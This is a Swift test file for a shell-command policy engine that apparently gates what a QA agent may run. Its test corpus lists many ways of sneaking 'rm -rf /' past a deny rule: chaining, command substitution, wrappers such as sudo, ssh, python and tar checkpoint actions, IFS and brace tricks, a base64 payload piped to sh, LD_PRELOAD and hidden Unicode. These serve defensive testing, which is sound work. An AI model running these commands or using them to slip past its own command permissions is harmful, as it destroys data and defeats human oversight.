import Diagnostics
@testable import Policy
@testable import PolicyFiles
import Testing

func policy(_ text: String) throws -> Policy {
  try Policy(SourceText(file: "qa-agent.policy.yaml", text: text))
}

/// A known trick, and what becomes of it: `ls` is permitted, `rm -rf` is denied, and nobody can be asked.
struct Trick: Sendable, CustomTestStringConvertible {
  var row: Int
  var text: String
  /// `nil` where either refusing or asking is right.
  var decision: Decision?
  var testDescription: String { "\(row): \(text.prefix(60))" }
}

struct CorpusTests {
  static let policyText = """
    version: 1
    defaults: { read: ask, probe: ask }
    deny:
      - { id: no-rm, command: rm -rf }
    allow:
      - { id: listing, command: "ls **" }
    """

  static func row(_ row: Int, _ decision: Decision?, _ texts: String...) -> [Trick] {
    texts.map { Trick(row: row, text: $0, decision: decision) }
  }

  static let tricks: [Trick] =
    row(1, .deny, "ls && rm -rf /", "ls || rm -rf /", "ls; rm -rf /", "ls&&rm -rf /", "ls;rm -rf /")
    + row(2, nil, "ls | tee /etc/x") + row(3, .deny, "ls & rm -rf /", "ls &", "rm -rf / &")
    + row(
      4, .deny, "ls\nrm -rf /", "ls\rrm -rf /", "ls\r\nrm -rf /", "ls\u{B}rm -rf /",
      "ls\u{C}rm -rf /",
      "ls\u{85}rm -rf /", "ls\u{2028}rm -rf /")
    + row(
      5, .deny, "(rm -rf /)", "{ rm -rf /; }", "$(rm -rf /)", "`rm -rf /`", "ls $(rm -rf /)",
      "ls `rm -rf /`")
    + row(
      6, .deny, "ls > ~/.bashrc", "ls >> ~/.bashrc", "ls 2> /tmp/x", "ls >& /tmp/x", "ls &> /tmp/x",
      "ls >| /tmp/x",
      "ls <> /tmp/x", "ls 3> /tmp/x")
    + row(6, nil, "ls > /etc/x", "ls >> /etc/x", "ls >/home/u/.bashrc")
    + row(
      7, .deny, "rm -rf /", "rm -fr /", "rm -r -f /", "rm --recursive --force /", "rm -rfv /",
      "rm -rf -- /",
      "rm /tmp -rf", "rm -Rf /", "rm --recurs --forc /", "rm -r --force /tmp", "rm -r /tmp -f",
      "rm -vrf /")
    + row(
      8, .deny, "/bin/rm -rf /", "./rm -rf /", "\\rm -rf /", "r\"\"m -rf /", "'rm' -rf /",
      "r\\m -rf /", "/usr/../bin/rm -rf /")
    + row(
      9, .deny, "env rm -rf /", "nice rm -rf /", "timeout 1 rm -rf /", "setsid rm -rf /",
      "watch rm -rf /", "xargs rm -rf",
      "mywrapper rm -rf /", "mywrapper --x rm -rf /", "sudo -u root rm -rf /", "busybox rm -rf /",
      "sh -c 'rm -rf /'",
      "bash -c \"rm -rf /\"", "env -S 'rm -rf /'", "find . -exec rm -rf '{}' ';'", "ssh h rm -rf /",
      "ssh h 'rm -rf /'",
      "python3 -c 'import os; os.system(\"rm -rf /\")'", "nohup rm -rf /", "script -c 'rm -rf /'",
      "tar cf x y --checkpoint-action=exec='rm -rf /'", "git -c alias.x='!rm -rf /' x",
      "awk 'BEGIN{system(\"rm -rf /\")}'", "vim -c ':!rm -rf /'", "rsync -e 'rm -rf /' a b",
      "nice timeout 5 env busybox rm -rf /")
    + row(
      10, .deny, "FOO=1 rm -rf /", "PATH=/tmp/x ls", "LD_PRELOAD=x", "LD_PRELOAD=x ls",
      "env LD_PRELOAD=x ls")
    + row(11, nil, "git -C /repo push", "cd x && git push", "git --git-dir=/x push")
    + row(12, .ask, "git -c core.pager='!sh' log", "git -c core.sshCommand=x log", "git log")
    + row(13, nil, "find . -exec id ';'", "find . -delete", "find . -fprint /tmp/x")
    + row(14, .deny, "sed -n '1e id' x", "sed 's/x/id/e' x", "sed -n 'w file' x")
    + row(15, .deny, "rm$IFS-rf$IFS/", "rm${IFS}-rf${IFS}/", "{rm,-rf,/}")
    + row(16, .deny, "a=rm; $a -rf /", "eval 'rm -rf /'", ". file", "source file", "eval ls")
    + row(17, .deny, "echo cm0gLXJmIC8K | base64 -d | sh", "base64 -d x | bash")
    + row(18, .deny, Array(repeating: "ls", count: 17).joined(separator: ";"))
    + row(19, .deny, "ls " + String(repeating: "a", count: 10_000))
    + row(20, .deny, "# only looks\nrm -rf /", "ls # rm -rf /")
    + row(
      21, .deny, "ls\u{200B}", "ls \u{2800}\u{202E}x", "ls \u{E0041}",
      "ls" + String(repeating: " ", count: 5000) + "; rm -rf /")
    + row(22, .allow, "ls    -l", "ls\t-l", "  ls", "ls ")
    + row(23, .allow, "ls '#x'", "ls \"a # b\"", "ls '# rm'")
    + row(24, .ask, "man ls", "help ls", "man -P id ls")
    + row(25, .deny, "[[ a =~ b ]]", "ls $a[1]", "ls $a:h", "=ls", "ls =id", "alias -g x=y")
    + row(26, .ask, "ls /proc/self/root", "ls /tmp/../etc", "ls /dev/fd/3")
    + row(26, .deny, "ls $HOME", "ls ~")
    + row(27, .deny, "ls \"$(id)\"", "ls \"`id`\"", "ls \"/tmp/$(rm -rf /)\"")
    + row(28, .allow, "ls -- '--settings=x'") + row(28, .ask, "ls --settings=x")
    + row(35, nil, "LS", "Ls", "lS -l")
    + row(36, .ask, "uniq a b", "sort -o a b", "tee x", "truncate -s0 x", "install a b")
    + row(36, nil, "dd of=/dev/sda")
    + row(37, .deny, "sort --outp=x y --compress-prog=id")
    + row(37, nil, "sort -ox y", "cat --sho x")
    + row(
      38, .deny, "ssh other-host id", "docker exec c sh", "kubectl exec p -- sh",
      "tmux send-keys x", "at now", "crontab -")
    + row(
      39, .deny, "curl -K file", "curl -o x http://h/", "wget --post-file=x h", "nslookup x.y",
      "dig x")
    + row(40, nil, "./ls", "/tmp/ls", "bin/ls") + row(40, .allow, "/bin/ls", "/usr/bin/ls -l")
    + row(41, .deny, "ls \u{1B}[2J", "ls '\u{1B}]0;x\u{7}'", "ls \u{9B}2J")

  @Test(arguments: tricks)
  func `decides a known trick as written`(_ trick: Trick) throws {
    let ruling = try policy(Self.policyText).ruling(forText: trick.text)
    if let decision = trick.decision {
      #expect(ruling.decision == decision, "\(ruling.reason)")
    } else {
      #expect(ruling.decision > .allow, "\(ruling.reason)")
    }
    #expect(!ruling.reason.isEmpty)
    #expect(ruling.withoutPerson.decision != .ask)
  }

  static let wrappers = [
    "env", "nice", "nice -n 5", "timeout 5", "timeout -s KILL 5", "nohup", "stdbuf -oL",
    "ionice -c 3", "busybox", "toybox",
    "sudo", "sudo -n", "doas", "setsid", "setsid -w", "watch", "xargs", "command", "exec",
    "builtin", "chroot /x", "unshare -r",
    "script -c", "flock /x", "parallel", "ssh h", "docker exec c", "find . -exec", "anything",
    "./mine --x", "time -p", "sg x",
    "strace -f", "systemd-run", "env -i", "env A=1", "su -c", "nsenter -t 1", "taskset 1",
    "/usr/bin/env",
  ]

  @Test(arguments: wrappers)
  func `no wrapper makes more of a trick than it is alone`(wrapper: String) throws {
    let policy = try policy(Self.policyText)
    for trick in Self.tricks where trick.decision != .allow {
      let wrapped = policy.ruling(forText: "\(wrapper) \(trick.text)")
      #expect(wrapped.decision > .allow, "\(wrapper) \(trick.text): \(wrapped.reason)")
      if Self.isRemoval(trick) {
        #expect(wrapped.decision == .deny, "\(wrapper) \(trick.text): \(wrapped.reason)")
      }
    }
  }

  private static func isRemoval(_ trick: Trick) -> Bool { [7, 9].contains(trick.row) }

  @Test func `spaces and quotes change no ruling of a trick`() throws {
    let policy = try policy(Self.policyText)
    for trick in Self.tricks where Self.isRemoval(trick) || trick.row == 1 {
      let mutations = [
        trick.text.replacing(" ", with: "  "), trick.text.replacing(" ", with: "\t"),
        " \(trick.text) ",
        trick.text.replacing("-rf", with: "'-rf'"), trick.text.replacing("-rf", with: "\"-rf\""),
        trick.text.replacing("-rf", with: "-'r'f"), trick.text.replacing("-rf", with: "-r\"f\""),
        trick.text.replacing("rm", with: "/bin/rm"), trick.text.replacing("rm", with: "r''m"),
        trick.text.replacing(" /", with: " '/'"), "ls; \(trick.text)", "ls | \(trick.text)",
        "\(trick.text) ; ls",
        "\(trick.text) | ls", "ls\n\(trick.text)", "cat x | sort && \(trick.text)",
      ]
      for text in mutations {
        let ruling = policy.ruling(forText: text)
        #expect(ruling.decision == .deny, "\(text): \(ruling.reason)")
      }
    }
  }

  @Test(arguments: [
    // 30 to 34: a file with a mistake is none.
    "version: 1\ndeny: [{ id: toString, command: rm }]", "version: 1\nnonsense: 1",
    "version: 1\ndeny: { id: a }",
    "version: 1\ndeny: [{ id: a, command: \"rm[*\" }]",
    "version: 1\ndeny: [{ id: a, command: rm, command: dd }]",
    "version: 1\ndeny: [{ id: a, any_word: [\"[\"] }]",
    "version: 1\ndeny: [{ id: a, command: x, any_word: [y] }]",
    "version: 1\ndeny: [{ id: a, command: x }, { id: a, command: y }]", "deny: []", "",
    "version: 2", "[1]", "version: 1\ndeny: [",
    "version: 1\nallow: [{ id: a, command: \"*\" }]",
    "version: 1\nallow: [{ id: a, command: \"** x\" }]",
    "version: 1\nallow: [{ id: a, any_word: [x] }]", "version: 1\nallow: [{ command: x }]",
    "version: 1\ndefaults: { write: allow }", "version: 1\ndefaults: { escalate: ask }",
    "version: 1\ndefaults: { raed: ask }",
    "version: 1\ntarget: persistent\ndefaults: { destroy: ask }",
    "version: 1\nallow: [{ id: a, command: ls, accepts: rm }]",
    "version: 1\nallow: [{ id: a, command: \"ls | sh\" }]", "version: 1\nlimits: { timeout: 5 }",
    "version: 1\nlimits: { output: 9MiB }",
    "version: 1\nlimits: { output: 9223372036854775807MiB }",
    "version: 1\nallow: [{ id: a, command: ls, match: [id] }]",
    "version: 1\nallow: [{ id: a, command: ls, no_match: [ls] }]",
    "version: 1\ndeny: [{ id: a, command: rm -rf, match: [\"rm -r x\"] }]",
    "version: 1\ndeny: [{ id: a, any_word: [\"*\"] }]",
  ])
  func `a policy with a mistake does not load, and says where`(text: String) throws {
    let error = try #require(throws: PolicyErrors.self) { try policy(text) }
    let first = try #require(error.diagnostics.first)
    #expect(first.file == "qa-agent.policy.yaml")
    #expect(text.isEmpty || first.line != nil, "\(first)")
  }
}
